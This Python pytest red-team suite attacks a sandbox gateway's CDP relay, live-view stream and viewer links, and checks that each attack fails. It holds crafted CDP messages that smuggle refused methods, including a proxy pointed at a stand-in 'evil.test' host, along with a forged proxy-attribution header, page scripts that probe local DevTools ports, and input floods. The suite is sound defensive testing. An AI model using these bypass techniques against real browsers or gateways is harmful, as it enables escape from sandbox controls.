"""Red team for issue 15 (live view, control lease, viewer links, CDP through the gateway), for real:
a real gateway, real sandboxes, their real Chromium and a real egress proxy in front of a fake
upstream (names under .test). Each test plays an attack and asserts it fails; a test that fails
marks a hole (kept failing on purpose, see the report)."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import logging
import os
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from websockets.asyncio.client import connect as aconnect
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import ClientConnection, connect

from corral.sdk import Sandbox

from .cdpwire import bearer, cdp_answer, cdp_call, cdp_socket, closed_with
from .conftest import agent_acts, wait_for
from .dockerutil import DockerHarness
from .egress_fixtures import Upstream, gateway_to, start_upstream
from .gateway_fixtures import KEY_A, KEY_B, RunningGateway, traffic

pytestmark = pytest.mark.usefixtures("desktop_image", "egress_image")


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory, runtime: DockerHarness) -> Iterator[Upstream]:
    network = f"corral-red15-it-{os.getpid()}"
    yield from start_upstream(runtime, tmp_path_factory.mktemp("upstream"), network, name="corral-red15-upstream")


@pytest.fixture(scope="module")
def gw(
    tmp_path_factory: pytest.TempPathFactory, upstream: Upstream, runtime: DockerHarness
) -> Iterator[RunningGateway]:
    instance = f"red15-{os.getpid()}"
    with gateway_to(upstream, tmp_path_factory.mktemp("red15-gw"), instance) as running:
        yield running
    runtime.remove_all({"corral.gateway": instance})


@pytest.fixture(scope="module")
def sb(gw: RunningGateway) -> Iterator[Sandbox]:
    with Sandbox.create(url=gw.url, api_key=KEY_A, allow=["allowed.test"]) as box:
        yield box


@pytest.fixture()
def fresh(gw: RunningGateway) -> Iterator[Sandbox]:
    """A session of its own, for attacks that may kill its browser."""
    with Sandbox.create(url=gw.url, api_key=KEY_A, allow=["allowed.test"]) as box:
        yield box


# -- helpers ---------------------------------------------------------------------------------------


def _browser_lives(gw: RunningGateway, sb: Sandbox, ws: ClientConnection | None = None) -> bool:
    """Whether the Chromium that ``ws`` (or a new connection) talks to still answers."""
    try:
        if ws is not None:
            return "result" in cdp_call(ws, 990_001, "Browser.getVersion")
        with cdp_socket(gw, sb) as fresh_ws:
            return "result" in cdp_call(fresh_ws, 1, "Browser.getVersion")
    except (ConnectionClosed, TimeoutError, OSError):
        return False


def _make_link(gw: RunningGateway, session_id: str, mode: str, **body: Any) -> tuple[dict[str, Any], str]:
    with gw.client() as c:
        made = c.post(f"/v1/sessions/{session_id}/links", json={"mode": mode, **body})
    assert made.status_code == 201, made.text
    return made.json(), made.json()["url"].split("#link=", 1)[1]


@contextlib.contextmanager
def _live(gw: RunningGateway, session_id: str, credential: str) -> Iterator[ClientConnection]:
    with connect(f"{gw.ws}/v1/sessions/{session_id}/live", max_size=None, open_timeout=20) as ws:
        ws.send(json.dumps({"type": "auth", "credential": credential}))
        yield ws


def _hello(ws: ClientConnection) -> dict[str, Any]:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        message = ws.recv(timeout=20)
        if isinstance(message, str) and json.loads(message).get("type") == "hello":
            return dict(json.loads(message))
    raise AssertionError("no hello")


def _reply(ws: ClientConnection, seq: int) -> dict[str, Any]:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        message = ws.recv(timeout=20)
        if isinstance(message, str):
            parsed = json.loads(message)
            if parsed.get("seq") == seq and parsed.get("type") in ("ack", "error"):
                return dict(parsed)
    raise AssertionError(f"no reply to seq {seq}")


# -- CDP: messages crafted to slip past the relay's rules -------------------------------------------


def test_odd_case_and_whitespace_method_names_do_not_close_the_browser(gw: RunningGateway, fresh: Sandbox) -> None:
    with cdp_socket(gw, fresh) as ws:
        for n, method in enumerate(
            ["browser.close", "BROWSER.CLOSE", " Browser.close", "Browser.close ", "Browser.Close"]
        ):
            answer = cdp_call(ws, n + 1, method)
            assert "error" in answer, (method, answer)
        time.sleep(1.0)
        assert _browser_lives(gw, fresh, ws)


def test_duplicate_method_keys_do_not_smuggle_a_refused_method(gw: RunningGateway, fresh: Sandbox) -> None:
    # The relay's json.loads keeps the last "method"; Chromium's parser must not act on the first.
    with cdp_socket(gw, fresh) as ws:
        ws.send('{"id":1,"method":"Browser.close","method":"Browser.getVersion","params":{}}')
        first = cdp_answer(ws, 1)
        ws.send(
            '{"id":2,"method":"Target.createBrowserContext","params":{"proxyServer":"http://evil.test:1"},"params":{}}'
        )
        second = cdp_answer(ws, 2)
        time.sleep(1.0)
        assert _browser_lives(gw, fresh, ws), first
        # A context with its own proxy must never have been made: a context id back means it was.
        assert "browserContextId" not in json.dumps(second), second


def test_batches_binary_frames_and_odd_ids_are_not_relayed_as_refused_methods(
    gw: RunningGateway, fresh: Sandbox
) -> None:
    with cdp_socket(gw, fresh) as ws:
        ws.send(json.dumps([{"id": 1, "method": "Browser.close"}]))
        batch = json.loads(ws.recv(timeout=20))
        assert batch["error"]["code"] == -32600
        ws.send(json.dumps({"id": 2, "method": "Browser.close"}).encode())  # a binary frame
        binary = json.loads(ws.recv(timeout=20))
        assert "error" in binary
        ws.send(json.dumps({"id": 3, "method": "Browser.close"}).encode("utf-16"))  # UTF-16, binary
        utf16 = json.loads(ws.recv(timeout=20))
        assert "error" in utf16
        ws.send(b'{"id":4,"method":"Browser.cl\xffose"}')  # not UTF-8
        assert "error" in json.loads(ws.recv(timeout=20))
        ws.send(json.dumps({"id": 2**80, "method": "Browser.close"}))
        assert "error" in json.loads(ws.recv(timeout=20))
        ws.send('{"id":true,"method":"Browser.close"}')
        assert "error" in json.loads(ws.recv(timeout=20))
        ws.send('{"id":5,"method":"Browser.\\u0063lose"}')  # an escaped name is the same name:
        assert cdp_answer(ws, 5) == {"id": 5, "result": {}}  # Browser.close ends this connection only
        assert closed_with(ws) == 1000
    time.sleep(1.0)
    assert _browser_lives(gw, fresh)


def test_flattened_browser_session_cannot_close_the_browser(gw: RunningGateway, fresh: Sandbox) -> None:
    with cdp_socket(gw, fresh) as ws:
        attached = cdp_call(ws, 1, "Target.attachToBrowserTarget")
        session = attached["result"]["sessionId"]
        proxied = cdp_call(
            ws, 3, "Target.createBrowserContext", {"proxyServer": "http://evil.test:1"}, sessionId=session
        )
        assert proxied["error"]["code"] == -32000
        # Browser.close in the browser's own session ends this connection, never Chromium.
        assert cdp_call(ws, 2, "Browser.close", sessionId=session) == {"id": 2, "sessionId": session, "result": {}}
        assert closed_with(ws) == 1000
    time.sleep(1.0)
    assert _browser_lives(gw, fresh)


def _wrapped(ws: ClientConnection, id: int, session: str, inner: dict[str, Any]) -> dict[str, Any]:
    """Send ``inner`` to a non-flattened target session inside Target.sendMessageToTarget; the outer
    answer and the inner one (a Target.receivedMessageFromTarget event), if any."""
    ws.send(
        json.dumps(
            {
                "id": id,
                "method": "Target.sendMessageToTarget",
                "params": {"sessionId": session, "message": json.dumps(inner)},
            }
        )
    )
    outer: dict[str, Any] | None = None
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            message = json.loads(ws.recv(timeout=max(0.1, deadline - time.monotonic())))
        except TimeoutError:
            break
        if message.get("id") == id:
            outer = message
            if "error" in message:
                break
        if message.get("method") == "Target.receivedMessageFromTarget":
            got = json.loads(message["params"]["message"])
            if got.get("id") == inner["id"]:
                return {"outer": outer, "inner": got}
    return {"outer": outer, "inner": None}


def test_send_message_to_target_cannot_wrap_a_proxy_context(gw: RunningGateway, fresh: Sandbox) -> None:
    # The old, non-flattened protocol: a command for a target session rides inside a string, which the
    # relay never reads. Try the browser target itself and a page target.
    with cdp_socket(gw, fresh) as ws:
        browser_target = cdp_call(ws, 1, "Target.getTargetInfo")["result"]["targetInfo"]["targetId"]
        pages = [t for t in cdp_call(ws, 2, "Target.getTargets")["result"]["targetInfos"] if t["type"] == "page"]
        made: list[Any] = []
        for n, target in enumerate([browser_target, pages[0]["targetId"]]):
            attached = cdp_call(ws, 10 + n, "Target.attachToTarget", {"targetId": target, "flatten": False})
            if "result" not in attached:
                continue
            session = attached["result"]["sessionId"]
            inner = {"id": 77, "method": "Target.createBrowserContext", "params": {"proxyServer": "http://evil.test:1"}}
            got = _wrapped(ws, 20 + n, session, inner)
            made.append((target, got))
        contexts = [g for _, g in made if g["inner"] is not None and "result" in g["inner"]]
        assert not contexts, f"a browser context with its own proxy was made through sendMessageToTarget: {made}"


@pytest.mark.parametrize(
    "inner",
    [
        {"id": 78, "method": "Tethering.bind", "params": {"port": 9333}},
        {"id": 79, "method": "Target.setRemoteLocations", "params": {"locations": [{"host": "evil.test", "port": 1}]}},
        {"id": 80, "method": "Target.exposeDevToolsProtocol", "params": {"targetId": "PAGE", "bindingName": "cdp"}},
    ],
    ids=["tethering", "remote_locations", "expose_devtools_to_page"],
)
def test_send_message_to_target_cannot_wrap_other_refused_methods(
    gw: RunningGateway, sb: Sandbox, inner: dict[str, Any]
) -> None:
    with cdp_socket(gw, sb) as ws:
        browser_target = cdp_call(ws, 1, "Target.getTargetInfo")["result"]["targetInfo"]["targetId"]
        pages = [t for t in cdp_call(ws, 2, "Target.getTargets")["result"]["targetInfos"] if t["type"] == "page"]
        params = {k: (pages[0]["targetId"] if v == "PAGE" else v) for k, v in inner["params"].items()}
        wrapped = {**inner, "params": params}
        attached = cdp_call(ws, 3, "Target.attachToTarget", {"targetId": browser_target, "flatten": False})
        if "result" in attached:
            got = _wrapped(ws, 4, attached["result"]["sessionId"], wrapped)
            ran = got["inner"] is not None and "error" not in got["inner"]
            assert not ran, f"{inner['method']} ran through sendMessageToTarget: {got}"
            return
        # Held a step earlier: no non-flat session, and no sendMessageToTarget even with a guessed one.
        assert "flat_sessions" in attached["error"]["message"], attached
        sent = cdp_call(ws, 4, "Target.sendMessageToTarget", {"sessionId": "guessed", "message": json.dumps(wrapped)})
        assert "error" in sent and "flat_sessions" in sent["error"]["message"], sent


def test_send_message_to_target_cannot_wrap_browser_close(gw: RunningGateway, fresh: Sandbox) -> None:
    with cdp_socket(gw, fresh) as ws:
        browser_target = cdp_call(ws, 1, "Target.getTargetInfo")["result"]["targetInfo"]["targetId"]
        attached = cdp_call(ws, 2, "Target.attachToTarget", {"targetId": browser_target, "flatten": False})
        tried: dict[str, Any] = {"attach": attached}
        if "result" in attached:
            tried["close"] = _wrapped(ws, 3, attached["result"]["sessionId"], {"id": 5, "method": "Browser.close"})
        time.sleep(2.0)
        assert _browser_lives(gw, fresh, ws), f"Browser.close wrapped in sendMessageToTarget closed Chromium: {tried}"


def test_chrome_internal_pages_over_cdp_do_not_loosen_the_egress_policy(gw: RunningGateway, sb: Sandbox) -> None:
    targets = httpx.get(f"{gw.url}/v1/sessions/{sb.id}/cdp/json/list", headers=bearer(sb)).json()
    page = next(t for t in targets if t["type"] == "page")
    reached: dict[str, Any] = {}
    with connect(page["webSocketDebuggerUrl"], additional_headers=bearer(sb), max_size=None, open_timeout=20) as ws:
        for n, url in enumerate(["chrome://settings", "chrome://net-internals", "chrome://policy"]):
            went = cdp_call(ws, n + 1, "Page.navigate", {"url": url})
            time.sleep(1.0)
            here = cdp_call(ws, 10 + n, "Runtime.evaluate", {"expression": "location.href"})
            reached[url] = (went, here.get("result", {}).get("result", {}).get("value"))
        cdp_call(ws, 50, "Page.navigate", {"url": "about:blank"})
    # Chromium's internal pages open (as they do for the agent's own desktop), but what they could
    # change is held by the managed policy: the proxy still decides, a denied host gets Corral's page.
    with connect(page["webSocketDebuggerUrl"], additional_headers=bearer(sb), max_size=None, open_timeout=20) as ws:
        cdp_call(ws, 60, "Page.navigate", {"url": "https://other.test/after-internals"})
        time.sleep(1.5)
        title = cdp_call(ws, 61, "Runtime.evaluate", {"expression": "document.title"})["result"]["result"]["value"]
        cdp_call(ws, 62, "Page.navigate", {"url": "about:blank"})
    assert title == "Blocked by Corral: other.test", (title, reached)


def test_extra_proxy_authorization_cannot_forge_another_actions_attribution(gw: RunningGateway, sb: Sandbox) -> None:
    forged = "h1.forged"
    value = "Basic " + base64.b64encode(f"corral-action:{forged}".encode()).decode()
    targets = httpx.get(f"{gw.url}/v1/sessions/{sb.id}/cdp/json/list", headers=bearer(sb)).json()
    page = next(t for t in targets if t["type"] == "page")
    with connect(page["webSocketDebuggerUrl"], additional_headers=bearer(sb), max_size=None, open_timeout=20) as ws:
        cdp_call(ws, 1, "Network.enable")
        cdp_call(ws, 2, "Network.setExtraHTTPHeaders", {"headers": {"Proxy-Authorization": value}})
        nav = cdp_call(ws, 3, "Page.navigate", {"url": "http://allowed.test/red15-forged"})
        time.sleep(2.0)
        where = cdp_call(ws, 6, "Runtime.evaluate", {"expression": "location.href + ' ' + document.title"})
        cdp_call(ws, 4, "Network.setExtraHTTPHeaders", {"headers": {}})
        cdp_call(ws, 5, "Page.navigate", {"url": "about:blank"})
    if nav["result"].get("errorText") == "net::ERR_INVALID_ARGUMENT":
        # Chromium itself refuses a Proxy-Authorization header set over CDP: nothing was sent.
        assert not [r for r in traffic(gw, sb.id) if "/red15-forged" in json.dumps(r)], where
        return
    records = wait_for(lambda: [r for r in traffic(gw, sb.id) if "/red15-forged" in json.dumps(r)])
    assert records, ("the navigation was not audited", nav, where)
    record = records[-1]
    # The CDP connection's traffic must stay charged to it, never to an action id it chose.
    assert record.get("action") != forged, record
    assert str(record.get("actor", "")).startswith("cdp:"), record


# -- a page, and the agent's own processes, against the controller and DevTools ----------------------


def test_a_page_cannot_reach_devtools_the_controller_or_the_gateways_cdp(gw: RunningGateway, sb: Sandbox) -> None:
    # What a hostile page's script runs (evaluated in a page at allowed.test, as its own script would).
    port = gw.settings.port
    script = """
    (async () => {
      const seen = {};
      const urls = %s;
      for (const url of urls) {
        try { const r = await fetch(url); seen[url] = "read " + r.status + " " + (await r.text()).slice(0, 80); }
        catch (e) { seen[url] = "failed"; }
      }
      const sockets = %s;
      for (const url of sockets) {
        seen[url] = await new Promise((done) => {
          try {
            const ws = new WebSocket(url);
            ws.onopen = () => { ws.send(JSON.stringify({type: "take", seq: 1})); done("open"); };
            ws.onerror = () => done("failed");
            setTimeout(() => done("timeout"), 4000);
          } catch (e) { done("failed"); }
        });
      }
      return JSON.stringify(seen);
    })()
    """
    gateway_paths = [f"/v1/sessions/{sb.id}/cdp/json/version", f"/v1/sessions/{sb.id}/live"]
    urls = [
        "http://127.0.0.1:9222/json/version",
        "http://127.0.0.1:8765/v1/cdp/json/version",
        "http://localhost:8765/v1/cdp/json/list",
        f"http://127.0.0.1:{port}{gateway_paths[0]}",
        f"http://host.docker.internal:{port}{gateway_paths[0]}",
        f"https://gateway.invalid{gateway_paths[0]}",
    ]
    sockets = [
        "ws://127.0.0.1:8765/v1/live?viewer=human:x&mode=control",
        "ws://127.0.0.1:8765/v1/cdp",
        "ws://127.0.0.1:9222/devtools/browser",
        f"ws://127.0.0.1:{port}{gateway_paths[1]}",
    ]
    targets = httpx.get(f"{gw.url}/v1/sessions/{sb.id}/cdp/json/list", headers=bearer(sb)).json()
    page = next(t for t in targets if t["type"] == "page")
    with connect(page["webSocketDebuggerUrl"], additional_headers=bearer(sb), max_size=None, open_timeout=20) as ws:
        cdp_call(ws, 1, "Page.navigate", {"url": "https://allowed.test/red15-page"})
        time.sleep(1.5)
        ran = cdp_call(
            ws,
            2,
            "Runtime.evaluate",
            {"expression": script % (json.dumps(urls), json.dumps(sockets)), "awaitPromise": True, "timeout": 60000},
        )
    seen = json.loads(ran["result"]["result"]["value"])
    reached = {u: s for u, s in seen.items() if s not in ("failed", "timeout") and not s.startswith("read 403")}
    assert not reached, f"a page reached: {reached} (all: {seen})"


def test_the_agents_processes_cannot_reach_devtools_or_the_live_stream(gw: RunningGateway, sb: Sandbox) -> None:
    script = r"""
import json, socket
out = {}
for port, payload in [(9222, b"GET /json/version HTTP/1.0\r\n\r\n"),
                      (8765, b"GET /v1/live?viewer=human:x&mode=control HTTP/1.1\r\nHost: x\r\n"
                             b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                             b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")]:
    for host in ("127.0.0.1", socket.gethostbyname(socket.gethostname())):
        try:
            s = socket.create_connection((host, port), timeout=3)
            s.sendall(payload)
            out[f"{host}:{port}"] = "read " + s.recv(200).decode("latin-1")
        except OSError as e:
            out[f"{host}:{port}"] = "failed " + type(e).__name__
print(json.dumps(out))
"""
    done = sb.exec(argv=["python3", "-c", script], timeout_ms=30_000)
    seen = json.loads(done.stdout.strip().splitlines()[-1])
    reached = {k: v for k, v in seen.items() if not v.startswith("failed")}
    assert not reached, f"the agent's process reached: {reached}"
    # Nor can the agent's own session token take the lease on the live stream.
    with _live(gw, sb.id, str(sb.info.token)) as ws:
        hello = _hello(ws)
        assert hello["viewer"] == "agent" and hello["mode"] == "view"
        ws.send(json.dumps({"type": "take", "seq": 1}))
        assert _reply(ws, 1)["type"] == "error"
    assert sb.act({"type": "wait", "ms": 0}) is not None


# -- Origin variants ---------------------------------------------------------------------------------


@pytest.mark.parametrize("origin", [["Origin: null"], ["ORIGIN: https://allowed.test"], ["Origin: a", "Origin: b"]])
def test_origin_variants_are_refused_on_cdp(gw: RunningGateway, sb: Sandbox, origin: list[str]) -> None:
    headers = [tuple(h.split(": ", 1)) for h in origin]
    try:
        with connect(
            f"{gw.ws}/v1/sessions/{sb.id}/cdp",
            additional_headers=[*bearer(sb).items(), *headers],
            open_timeout=20,
        ) as ws:
            assert closed_with(ws, after_messages=True) == 4403
    except InvalidStatus as refused:  # uvicorn refuses two Origins before the route runs
        assert refused.response.status_code == 400
    answer = httpx.get(
        f"{gw.url}/v1/sessions/{sb.id}/cdp/json/version",
        headers=httpx.Headers([*bearer(sb).items(), *headers]),
    )
    assert answer.status_code == 403


def test_a_web_origin_with_a_stolen_session_token_cannot_drive_the_live_stream(gw: RunningGateway, sb: Sandbox) -> None:
    # A page at a web origin holding the agent's session token: the live stream only ever watches.
    with connect(
        f"{gw.ws}/v1/sessions/{sb.id}/live", additional_headers={"Origin": "https://allowed.test"}, open_timeout=20
    ) as ws:
        try:
            ws.send(json.dumps({"type": "auth", "credential": str(sb.info.token)}))
            hello = _hello(ws)
        except ConnectionClosed as refused:
            assert refused.rcvd is not None and refused.rcvd.code == 4403, refused  # a foreign Origin: held
            return
        assert hello["mode"] == "view"
        ws.send(json.dumps({"type": "input", "seq": 1, "action": {"type": "click", "x": 5, "y": 5}}))
        assert _reply(ws, 1)["type"] == "error"


# -- viewer links ------------------------------------------------------------------------------------


def test_a_view_link_cannot_take_or_send_input(gw: RunningGateway, sb: Sandbox) -> None:
    _, secret = _make_link(gw, sb.id, "view")
    with _live(gw, sb.id, secret) as ws:
        assert _hello(ws)["mode"] == "view"
        ws.send(json.dumps({"type": "take", "seq": 1}))
        assert _reply(ws, 1)["error"]["code"] == "forbidden"
        ws.send(json.dumps({"type": "input", "seq": 2, "action": {"type": "type", "text": "x"}}))
        assert _reply(ws, 2)["error"]["code"] == "forbidden"
        ws.send(json.dumps({"type": "release", "seq": 3}))
        assert _reply(ws, 3)["type"] == "error"
        # A message of no known type with a mode of its own: still the link's mode.
        ws.send(json.dumps({"type": "take", "seq": 4, "mode": "control", "viewer": "human:key-x"}))
        assert _reply(ws, 4)["type"] == "error"
    assert sb.act({"type": "wait", "ms": 0}) is not None


def test_a_session_token_cannot_make_links_and_links_open_nothing_else(gw: RunningGateway, sb: Sandbox) -> None:
    with httpx.Client(base_url=gw.url, headers=bearer(sb), timeout=60) as agent:
        made = agent.post(f"/v1/sessions/{sb.id}/links", json={"mode": "control"})
        assert made.status_code == 403, made.text
        assert agent.get(f"/v1/sessions/{sb.id}/links").status_code in (401, 403)
    with gw.client(KEY_B) as other_owner:
        assert other_owner.post(f"/v1/sessions/{sb.id}/links", json={"mode": "control"}).status_code in (403, 404)
    _, secret = _make_link(gw, sb.id, "control")
    link = {"Authorization": f"Bearer {secret}"}
    with httpx.Client(base_url=gw.url, headers=link, timeout=60) as viewer:
        assert viewer.post(f"/v1/sessions/{sb.id}/actions", json={"action": {"type": "wait", "ms": 0}}).status_code in (
            401,
            403,
        )
        assert viewer.post(f"/v1/sessions/{sb.id}/links", json={"mode": "control"}).status_code in (401, 403)
        assert viewer.post(f"/v1/sessions/{sb.id}/cdp/connect", json={}).status_code in (401, 403)
        assert viewer.get(f"/v1/sessions/{sb.id}/cdp/json/version").status_code in (401, 403)
    with connect(f"{gw.ws}/v1/sessions/{sb.id}/cdp", additional_headers=link, open_timeout=20) as ws:
        assert closed_with(ws, after_messages=True) in (4401, 4403)


def test_a_link_of_one_session_opens_nothing_of_another(gw: RunningGateway, sb: Sandbox) -> None:
    _, secret = _make_link(gw, sb.id, "control")
    with Sandbox.create(url=gw.url, api_key=KEY_A, allow=[]) as other:
        with _live(gw, other.id, secret) as ws:
            assert closed_with(ws, after_messages=True) == 4403
        assert httpx.get(
            f"{gw.url}/v1/sessions/{other.id}/recording", headers={"Authorization": f"Bearer {secret}"}
        ).status_code in (401, 403)


def test_revoke_closes_within_a_second_and_the_link_cannot_reconnect(
    gw: RunningGateway, sb: Sandbox, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    made, secret = _make_link(gw, sb.id, "control")
    with _live(gw, sb.id, secret) as ws:
        _hello(ws)
        ws.send(json.dumps({"type": "take", "seq": 1}))
        assert _reply(ws, 1)["type"] == "ack"
        start = time.monotonic()
        with gw.client() as c:
            assert c.delete(f"/v1/sessions/{sb.id}/links/{made['id']}").status_code == 200
        assert closed_with(ws, timeout_s=5, after_messages=True) == 4003
        assert time.monotonic() - start < 1.0
    # The lease came back to the agent with the stream gone.
    assert wait_for(lambda: agent_acts(sb), timeout_s=5)
    with _live(gw, sb.id, secret) as ws:
        assert closed_with(ws, after_messages=True) == 4401
    # The secret is nowhere in the gateway's logs, nor in the audit chain.
    assert all(secret not in r.getMessage() for r in caplog.records)
    assert secret not in json.dumps(traffic(gw, sb.id))
    assert secret.removeprefix("crl_link_") not in json.dumps(traffic(gw, sb.id))


def test_connect_tickets_are_scoped_and_expire(gw: RunningGateway, sb: Sandbox) -> None:
    with httpx.Client(base_url=gw.url, headers=bearer(sb), timeout=60) as agent:
        assert agent.post(f"/v1/sessions/{sb.id}/cdp/connect", json={"ttl_s": 100_000}).status_code in (400, 422)
        short = agent.post(f"/v1/sessions/{sb.id}/cdp/connect", json={"ttl_s": 1}).json()
    assert short["expires_at"] <= time.time() + 2
    time.sleep(2.1)
    with connect(short["url"], open_timeout=20) as ws:
        assert closed_with(ws, after_messages=True) == 4401
    assert httpx.get(short["http_url"] + "/json/version").status_code == 401
    # A ticket is no credential anywhere else: not for actions, links, live or another ticket.
    with httpx.Client(base_url=gw.url, headers=bearer(sb), timeout=60) as agent:
        ticket = agent.post(f"/v1/sessions/{sb.id}/cdp/connect", json={"ttl_s": 60}).json()
    raw = ticket["url"].rsplit("/", 1)[1]
    as_bearer = {"Authorization": f"Bearer {raw}"}
    assert (
        httpx.post(
            f"{gw.url}/v1/sessions/{sb.id}/actions", json={"action": {"type": "wait", "ms": 0}}, headers=as_bearer
        ).status_code
        == 401
    )
    with _live(gw, sb.id, raw) as ws:
        assert closed_with(ws, after_messages=True) == 4401


# -- floods and slow viewers ---------------------------------------------------------------------------


def test_a_human_input_flood_does_not_starve_the_agent(gw: RunningGateway, fresh: Sandbox) -> None:
    # A control link that does not hold the lease floods input; the agent (holding it) acts on.
    _, secret = _make_link(gw, fresh.id, "control")
    baseline = time.monotonic()
    fresh.act({"type": "screenshot"})
    alone = time.monotonic() - baseline
    with _live(gw, fresh.id, secret) as ws:
        _hello(ws)
        for n in range(1, 3001):
            ws.send(json.dumps({"type": "input", "seq": n, "action": {"type": "click", "x": n % 500, "y": 10}}))
        start = time.monotonic()
        fresh.act({"type": "screenshot"})
        flooded = time.monotonic() - start
        last = _reply(ws, 3000)
    assert last["type"] == "error" and last["error"]["code"] in ("control_taken", "invalid_request")  # bounded
    assert flooded < max(5.0, 10 * alone), f"a screenshot took {flooded:.2f}s under a flood ({alone:.2f}s alone)"


def _sandbox_memory_mib(instance: str) -> float:
    """The summed memory of this gateway's sandbox containers (docker stats)."""
    import subprocess

    names = subprocess.run(
        ["docker", "ps", "--filter", f"label=corral.gateway={instance}", "--format", "{{.Names}}"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    stats = subprocess.run(
        ["docker", "stats", "--no-stream", "--format", "{{.MemUsage}}", *names],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.splitlines()
    total = 0.0
    for line in stats:
        used = line.split("/")[0].strip()
        number, unit = float(used.rstrip("KMGiB")), used.lstrip("0123456789.")
        total += number * {"KiB": 1 / 1024, "MiB": 1.0, "GiB": 1024.0, "B": 1 / 2**20}.get(unit, 1.0)
    return total


def test_a_view_link_flooding_and_never_reading_does_not_grow_the_controller(
    gw: RunningGateway, fresh: Sandbox
) -> None:
    # Every message of a view link is answered with an error; a client that never reads those answers
    # must not make the controller (or the gateway) queue them without bound.
    _, secret = _make_link(gw, fresh.id, "view")
    instance = str(gw.settings.instance)
    before = _sandbox_memory_mib(instance)

    async def flood() -> None:
        ws = await aconnect(f"{gw.ws}/v1/sessions/{fresh.id}/live", max_size=None, max_queue=1)
        await ws.send(json.dumps({"type": "auth", "credential": secret}))
        filler = "x" * 400
        # Held either way: the stream is closed (its bounded outbox overflowed), or the gateway stops
        # reading and the sends block (TCP's backpressure); unbounded queueing is what must not happen.
        # Bounded in time too: the sockets' buffers on the way can hold a long run of small answers,
        # and at a few ms a message 150,000 of them outlast the test's timeout (seen in CI).
        deadline = time.monotonic() + 90
        with contextlib.suppress(ConnectionClosed, TimeoutError):
            for n in range(150_000):
                await asyncio.wait_for(ws.send(json.dumps({"type": "take", "seq": n, "pad": filler})), 5)
                if time.monotonic() > deadline:
                    break
        await asyncio.sleep(3.0)
        nonlocal_after.append(_sandbox_memory_mib(instance))
        # Not a bare close(): when the gateway stopped reading, the close frame waits behind the
        # unread sends and close() drains with no deadline of its own (websockets' close_timeout
        # starts after the drain): that hung this test past pytest's timeout in CI. Dropped instead.
        try:
            await asyncio.wait_for(ws.close(), 10)
        except TimeoutError:
            ws.transport.abort()

    nonlocal_after: list[float] = []
    asyncio.run(flood())
    after = nonlocal_after[0]
    assert after - before < 100, f"the sandboxes grew {after - before:.0f} MiB behind a viewer that never reads"


def test_a_viewer_that_never_reads_does_not_grow_the_gateway(gw: RunningGateway, fresh: Sandbox) -> None:
    import resource

    async def play() -> tuple[float, float]:
        ws = await aconnect(f"{gw.ws}/v1/sessions/{fresh.id}/live", max_size=None, max_queue=1)
        await ws.send(json.dumps({"type": "auth", "credential": str(fresh.info.token)}))
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        # The screen keeps changing; the viewer never reads a frame.
        for n in range(40):
            fresh.act({"type": "key", "keys": "ctrl+l"}) if n % 2 else fresh.act(
                {"type": "move", "x": n * 10, "y": n * 5}
            )
            await asyncio.sleep(0.25)
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        await ws.close()
        return before, after

    before, after = asyncio.run(play())
    assert after - before < 200_000, f"the gateway grew {(after - before) / 1024:.0f} MiB behind a slow viewer"
